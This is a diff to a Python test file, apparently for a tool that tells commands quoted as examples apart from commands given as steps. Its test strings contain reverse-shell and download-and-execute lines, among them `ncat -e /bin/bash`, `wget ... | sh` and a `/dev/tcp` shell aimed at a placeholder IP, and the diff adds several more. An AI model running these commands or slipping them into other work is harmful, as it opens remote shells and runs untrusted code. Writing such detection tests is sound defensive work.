@@ -431,6 +431,8 @@ def test_a_short_decoded_word_written_to_a_plain_file_is_not_persistence(tmp_pat
         "- A listener that hands out a prompt, such as\n  `ncat -e /bin/bash 198.51.100.9 8443`, left behind in cron.",
         "- The dropper seen in the logs (for example `wget -qO- http://198.51.100.9/d | sh`) ran as www-data.",
         "Some implants reconnect hourly like `bash -c 'sh -i >& /dev/tcp/198.51.100.9/8443 0>&1'` from cron.",
+        "- Search every crontab for `wget -qO- http://198.51.100.9/d | sh`.",
+        "- Grep the shell histories for lines like `ncat -e /bin/bash 198.51.100.9 8443`.",
     ],
 )
 def test_a_command_quoted_as_an_instance_of_what_a_sentence_describes_is_an_example(tmp_path: Path, item: str) -> None:
@@ -446,6 +448,8 @@ def test_a_command_quoted_as_an_instance_of_what_a_sentence_describes_is_an_exam
         "- A relay you keep open, such as `ncat -e /bin/bash 198.51.100.9 8443`.",  # addressed to the reader
         "- Relay: `ncat -e /bin/bash 198.51.100.9 8443`",  # a label, then the command
         "- `ncat -e /bin/bash 198.51.100.9 8443` keeps the relay up.",  # the command heads the item
+        "- Check for a relay with `ncat -e /bin/bash 198.51.100.9 8443`.",  # looking, but the span is the tool
+        "- Look for `ncat -e /bin/bash 198.51.100.9 8443` and start it.",  # an order in the sentence
     ],
 )
 def test_a_quoted_command_given_as_a_step_stays_a_step(tmp_path: Path, item: str) -> None:
